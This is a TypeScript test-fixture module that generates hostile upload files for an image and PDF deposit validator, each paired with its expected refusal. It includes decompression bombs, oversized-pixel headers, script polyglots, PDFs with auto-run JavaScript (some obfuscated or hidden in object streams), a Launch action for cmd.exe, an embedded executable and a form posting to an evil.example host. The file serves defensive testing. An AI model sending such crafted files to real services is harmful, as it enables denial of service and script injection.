/**
 * Files that somebody hostile, or an unlucky telephone, would send: made in memory, each a few kilobytes, or as many as
 * its kind needs. What must come of each is said beside it.
 */
import { Readable } from 'node:stream';
import { crc32, createDeflate, deflateSync } from 'node:zlib';
import { PDFDict, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { depositLimits, type ContentRefusal } from '#domain/documents/deposited-file.ts';
import { aPdf, aPicture } from '#tests/factories/files.ts';

export type Hostile = {
	what: string;
	name: string;
	content: () => Promise<Uint8Array> | Uint8Array;
	/** Why it is refused; null when it is taken, and harmless once made anew. */
	refusal: ContentRefusal | null;
};

const latin = (text: string) => Buffer.from(text, 'latin1');
const join = (...parts: (Uint8Array | string)[]) =>
	Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin(part) : part)));
const cut = (content: Uint8Array, share: number) => content.subarray(0, Math.floor(content.length * share));

/** A chunk of PNG. */
function chunk(type: string, data: Uint8Array): Buffer {
	const body = join(type, data);
	const length = Buffer.alloc(4);
	length.writeUInt32BE(data.length);
	const sum = Buffer.alloc(4);
	sum.writeUInt32BE(crc32(body));
	return join(length, body, sum);
}

/** A PNG whose head claims a size, whatever its content holds. */
function pngOf(width: number, height: number, content: Uint8Array): Buffer {
	const head = Buffer.alloc(13);
	head.writeUInt32BE(width, 0);
	head.writeUInt32BE(height, 4);
	head.set([8, 0, 0, 0, 0], 8);
	return join(
		Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
		chunk('IHDR', head),
		chunk('IDAT', deflateSync(content)),
		chunk('IEND', Buffer.alloc(0))
	);
}

/** A JPEG whose frame claims another size. */
async function jpegOf(width: number, height: number): Promise<Buffer> {
	const image = await aPicture('jpeg');
	const frame = image.indexOf(Buffer.from([0xff, 0xc0]));
	image.writeUInt16BE(height, frame + 5);
	image.writeUInt16BE(width, frame + 7);
	return image;
}

/** A lossless WebP whose head claims the largest size it can. */
function webpOf(width: number, height: number): Buffer {
	const data = Buffer.alloc(32);
	data[0] = 0x2f;
	data.writeUInt32LE(((width - 1) & 0x3fff) | (((height - 1) & 0x3fff) << 14), 1);
	const size = Buffer.alloc(4);
	size.writeUInt32LE(data.length);
	const whole = Buffer.alloc(4);
	whole.writeUInt32LE(12 + data.length);
	return join('RIFF', whole, 'WEBPVP8L', size, data);
}

/** A PDF written by hand, for what no library would write. */
const rawPdf = (...objects: string[]) =>
	latin(
		`%PDF-1.7\n${objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<</Root 1 0 R>>\n%%EOF\n`
	);
const onePage = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>'];
const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>';
const catalogWith = (more: string) => rawPdf(`<</Type/Catalog/Pages 2 0 R${more}>>`, onePage[1]!, page);
const streamOf = (dict: string, content: Uint8Array) =>
	`<<${dict}/Length ${content.length}>>\nstream\n${Buffer.from(content).toString('latin1')}\nendstream`;
const zeros = (length: number) => Buffer.alloc(length);
const annotated = (annotation: string) =>
	rawPdf(...onePage, `<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[4 0 R]>>`, annotation);
const zip = join('PK\u0003\u0004', zeros(26), 'evil.exe', 'PK\u0005\u0006', zeros(18));

const images: Hostile[] = [
	{
		what: 'a PNG of 60 000 by 60 000',
		name: 'a.png',
		content: () => pngOf(60_000, 60_000, zeros(1_000)),
		refusal: 'UPLOAD_TOO_MANY_PIXELS'
	},
	{
		what: 'a PNG of zeros that unfolds to 81 million pixels',
		name: 'a.png',
		content: () => pngOf(9_000, 9_000, zeros(81_009_000)),
		refusal: 'UPLOAD_TOO_MANY_PIXELS'
	},
	{
		what: 'a JPEG that claims 65 500 by 65 500',
		name: 'a.jpg',
		content: () => jpegOf(65_500, 65_500),
		refusal: 'UPLOAD_TOO_MANY_PIXELS'
	},
	{
		what: 'a WebP that claims 16 383 by 16 383',
		name: 'a.webp',
		content: () => webpOf(16_383, 16_383),
		refusal: 'UPLOAD_TOO_MANY_PIXELS'
	},
	{ what: 'a JPEG that claims more than it holds', name: 'a.jpg', content: () => jpegOf(6_000, 6_000), refusal: null },
	{
		what: 'a JPEG cut short',
		name: 'a.jpg',
		content: async () => cut(await aPicture('jpeg', 800, 600), 0.6),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a PNG cut short',
		name: 'a.png',
		content: async () => cut(await noise('png'), 0.5),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a WebP cut short',
		name: 'a.webp',
		content: async () => cut(await noise('webp'), 0.5),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a head of JPEG alone',
		name: 'a.jpg',
		content: () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{ what: 'a JPEG followed by a ZIP', name: 'a.jpg', content: async () => join(await aPicture(), zip), refusal: null },
	{
		what: 'a JPEG followed by a page that runs',
		name: 'a.jpg',
		content: async () => join(await aPicture(), '<html><script>alert(1)</script>'),
		refusal: null
	},
	{
		what: 'a PNG with a script in a text of its own',
		name: 'a.png',
		content: async () => withText(await aPicture('png')),
		refusal: null
	},
	{ what: 'a JPEG that says where it was taken', name: 'a.jpg', content: () => located(), refusal: null },
	{
		what: 'a GIF that is also a script',
		name: 'a.gif',
		content: () => latin('GIF89a/*'.padEnd(40, ' ') + '*/=1;alert(1)//'),
		refusal: 'UPLOAD_KIND'
	},
	{
		what: 'a GIF called JPEG',
		name: 'a.jpg',
		content: () => latin('GIF89a'.padEnd(60, '\u0001')),
		refusal: 'UPLOAD_KIND'
	},
	{
		what: 'an SVG called PNG',
		name: 'a.png',
		content: () => latin('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
		refusal: 'UPLOAD_KIND'
	},
	{
		what: 'a page called JPEG',
		name: 'a.jpg',
		content: () => latin('<!doctype html><script>alert(1)</script>'),
		refusal: 'UPLOAD_KIND'
	},
	{
		what: 'a HEIC of a telephone',
		name: 'a.heic',
		content: () => join(Buffer.from([0, 0, 0, 24]), 'ftypheic', zeros(4), 'mif1heic', zeros(400)),
		refusal: 'UPLOAD_KIND'
	},
	{
		what: 'a HEIC called JPEG',
		name: 'a.jpg',
		content: () => join(Buffer.from([0, 0, 0, 24]), 'ftypheic', zeros(4), 'mif1heic', zeros(400)),
		refusal: 'UPLOAD_KIND'
	},
	{ what: 'a PNG called JPEG', name: 'a.jpg', content: () => aPicture('png'), refusal: 'UPLOAD_NAME' },
	{ what: 'a picture called PDF', name: 'a.pdf', content: () => aPicture(), refusal: 'UPLOAD_NAME' },
	{ what: 'a picture without an ending', name: 'carte', content: () => aPicture(), refusal: 'UPLOAD_NAME' },
	{ what: 'a picture called as a program', name: 'carte.jpg.exe', content: () => aPicture(), refusal: 'UPLOAD_NAME' }
];

const documents: Hostile[] = [
	{
		what: 'a PDF that runs when it is opened',
		name: 'a.pdf',
		content: () => catalogWith('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
		refusal: 'UPLOAD_ACTIVE_PDF'
	},
	{
		what: 'a PDF with a named script',
		name: 'a.pdf',
		content: () => aPdf('x', (pdf) => pdf.addJavaScript('a', 'app.alert(1)')),
		refusal: 'UPLOAD_ACTIVE_PDF'
	},
	{
		what: 'a PDF whose script has a name in disguise',
		name: 'a.pdf',
		content: () => catalogWith('/OpenAction<</S/J#61vaScript/J#53(1)>>'),
		refusal: 'UPLOAD_ACTIVE_PDF'
	},
	{ what: 'a PDF whose script is in a folded object', name: 'a.pdf', content: folded, refusal: 'UPLOAD_ACTIVE_PDF' },
	{
		what: 'a PDF that starts a program',
		name: 'a.pdf',
		content: () => catalogWith('/OpenAction<</S/Launch/F(cmd.exe)>>'),
		refusal: 'UPLOAD_ACTIVE_PDF'
	},
	{
		what: 'a PDF that carries a file',
		name: 'a.pdf',
		content: () => aPdf('x', (pdf) => pdf.attach(latin('MZ'), 'evil.exe')),
		refusal: 'UPLOAD_ACTIVE_PDF'
	},
	{
		what: 'a PDF with a film',
		name: 'a.pdf',
		content: () => annotated('<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>'),
		refusal: 'UPLOAD_ACTIVE_PDF'
	},
	{
		what: 'a PDF that sends a form',
		name: 'a.pdf',
		content: () => annotated('<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example)>>>>'),
		refusal: 'UPLOAD_ACTIVE_PDF'
	},
	{
		what: 'a PDF that opens at its second view',
		name: 'a.pdf',
		content: () => catalogWith('/OpenAction[3 0 R/Fit]'),
		refusal: null
	},
	{
		what: 'a PDF with a link',
		name: 'a.pdf',
		content: () => annotated('<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://evil.example/zq)>>>>'),
		refusal: null
	},
	{
		what: 'a PDF that says who wrote it',
		name: 'a.pdf',
		content: () =>
			aPdf('x', (pdf) => {
				pdf.setAuthor('zq-author');
				pdf.setTitle('zq-title');
			}),
		refusal: null
	},
	{ what: 'a PDF under a password', name: 'a.pdf', content: locked, refusal: 'UPLOAD_LOCKED_PDF' },
	{
		what: 'a PDF whose table of contents is false',
		name: 'a.pdf',
		content: async () => join(cut(await aPdf(), 0.9), 'xref\n0 99999\nstartxref\n123456789\n%%EOF'),
		refusal: null
	},
	{ what: 'a PDF cut short', name: 'a.pdf', content: async () => cut(await aPdf(), 0.3), refusal: 'UPLOAD_UNREADABLE' },
	{ what: 'a head of PDF alone', name: 'a.pdf', content: () => latin('%PDF-1.7\n'), refusal: 'UPLOAD_UNREADABLE' },
	{
		what: 'a PDF without a page',
		name: 'a.pdf',
		content: () => rawPdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>'),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a PDF whose pages hold each other',
		name: 'a.pdf',
		content: () => rawPdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>'),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a PDF of lists a hundred thousand deep',
		name: 'a.pdf',
		content: () => catalogWith(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a PDF whose page unfolds to 600 megabytes',
		name: 'a.pdf',
		content: () => bombIn('/Filter/FlateDecode', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>'),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a PDF whose objects unfold to 600 megabytes',
		name: 'a.pdf',
		content: () => bombIn('/Type/ObjStm/N 1/First 9/Filter/FlateDecode'),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a PDF folded twice',
		name: 'a.pdf',
		content: () =>
			rawPdf(
				...onePage,
				page,
				streamOf('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(zeros(10_000_000))))
			),
		refusal: 'UPLOAD_UNREADABLE'
	},
	{
		what: 'a PDF with an image of a billion pixels',
		name: 'a.pdf',
		content: () => rawPdf(...onePage, page, streamOf('/Subtype/Image/Width 40000/Height 40000', zeros(10))),
		refusal: 'UPLOAD_TOO_MANY_PIXELS'
	},
	{
		what: 'a page that is also a PDF',
		name: 'a.pdf',
		content: async () => join('<html><script>alert(1)</script>', await aPdf()),
		refusal: 'UPLOAD_KIND'
	},
	{
		what: 'a ZIP that is also a PDF',
		name: 'a.pdf',
		content: async () => join(zip, await aPdf()),
		refusal: 'UPLOAD_KIND'
	},
	{
		what: 'a PDF followed by a ZIP and a script',
		name: 'a.pdf',
		content: async () => join(await aPdf(), zip, '<script>alert(1)</script>'),
		refusal: null
	},
	{ what: 'a ZIP called PDF', name: 'a.pdf', content: () => zip, refusal: 'UPLOAD_KIND' },
	{ what: 'a program called PDF', name: 'a.pdf', content: () => join('MZ', zeros(200)), refusal: 'UPLOAD_KIND' },
	{ what: 'a PDF called JPEG', name: 'a.jpg', content: () => aPdf(), refusal: 'UPLOAD_NAME' },
	{ what: 'a text', name: 'a.pdf', content: () => latin('bonjour'), refusal: 'UPLOAD_KIND' },
	{ what: 'an empty file', name: 'a.pdf', content: () => Buffer.alloc(0), refusal: 'UPLOAD_EMPTY' },
	{
		what: 'a picture of exactly 10 Mo',
		name: 'a.jpg',
		content: async () => padded(depositLimits.bytes),
		refusal: null
	},
	{
		what: 'one byte more',
		name: 'a.jpg',
		content: async () => padded(depositLimits.bytes + 1),
		refusal: 'UPLOAD_TOO_BIG'
	}
];

export const corpus: readonly Hostile[] = [...images, ...documents];

/** A picture that does not compress, so that half of it is half of its pixels. */
const noise = (format: 'png' | 'webp') =>
	sharp({
		create: {
			width: 300,
			height: 200,
			channels: 3,
			background: '#000',
			noise: { type: 'gaussian', mean: 128, sigma: 60 }
		}
	})
		.toFormat(format)
		.toBuffer();

const withText = (png: Buffer) =>
	join(png.subarray(0, 33), chunk('tEXt', latin('Comment\u0000<script>alert(1)</script>')), png.subarray(33));

const located = () =>
	sharp({ create: { width: 60, height: 40, channels: 3, background: '#c8d5b9' } })
		.withExif({
			IFD0: { Make: 'zq-phone', Copyright: 'zq-name' },
			IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '49/1 2/1 0/1' }
		})
		.jpeg()
		.toBuffer();

async function padded(length: number): Promise<Buffer> {
	const image = await aPicture();
	return join(image, zeros(length - image.length));
}

/** A script in an object stream: it cannot be found by looking for its name in the bytes. */
async function folded(): Promise<Uint8Array> {
	const pdf = await PDFDocument.create();
	pdf.addPage([9, 9]);
	const action = PDFDict.withContext(pdf.context);
	action.set(PDFName.of('S'), PDFName.of('JavaScript'));
	action.set(PDFName.of('JS'), PDFString.of('app.alert(1)'));
	pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
	return pdf.save({ useObjectStreams: true });
}

async function locked(): Promise<Uint8Array> {
	const pdf = await PDFDocument.create();
	pdf.addPage([9, 9]);
	pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' });
	return pdf.save({ useObjectStreams: false });
}

/** What folds very small: as much as no reader should ever hold, in a few hundred kilobytes. */
const unfolded = 600_000_000;
let bomb: Promise<Buffer> | undefined;
async function bombIn(dict: string, first = page): Promise<Buffer> {
	bomb ??= (async () => {
		const some = zeros(1_000_000);
		const pieces = Readable.from(Array.from({ length: unfolded / some.length }, () => some));
		return Buffer.concat(await pieces.pipe(createDeflate()).toArray());
	})();
	return rawPdf(...onePage, first, streamOf(dict, await bomb));
}
